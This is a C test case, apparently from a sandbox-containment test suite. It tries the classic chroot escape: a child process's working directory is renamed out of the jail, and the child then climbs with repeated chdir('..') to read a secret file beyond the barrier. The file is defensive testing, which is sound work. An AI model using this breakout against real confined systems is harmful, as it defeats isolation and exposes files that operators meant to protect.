// tries: leave by `..` from a directory that is moved out of its chroot(2) while it is the working directory
// wall: the view's barrier directory
// control: root
// needs: tree
#include "attack.h"
ATTACK
{
    char jail[256], inner[256], outer[256];
    int ready[2], moved[2];
    char byte = 0;
    sc(__NR_mkdir, own(jail, "jail"), 0755);
    sc(__NR_mkdir, own(inner, "jail/inner"), 0755);
    own(outer, "outer");
    sc(__NR_pipe2, ready, 0), sc(__NR_pipe2, moved, 0);
    long child = sc(__NR_fork);
    if (child == 0) {
        long rooted = sc(__NR_chroot, jail);
        sc(__NR_chdir, "/inner");
        sc(__NR_write, ready[1], &byte, 1);
        sc(__NR_read, moved[0], &byte, 1);
        for (int i = 0; i < 64; i++) sc(__NR_chdir, "..");
        if (rooted < 0) say("chroot: %s", errno_name(rooted));
        else show_file(text("secret_file") + 1);
        leave(0);
    }
    sc(__NR_read, ready[0], &byte, 1);
    attempt("moving the directory out", sc(__NR_rename, inner, outer));
    sc(__NR_write, moved[1], &byte, 1);
    wait_for(child, NULL);
}
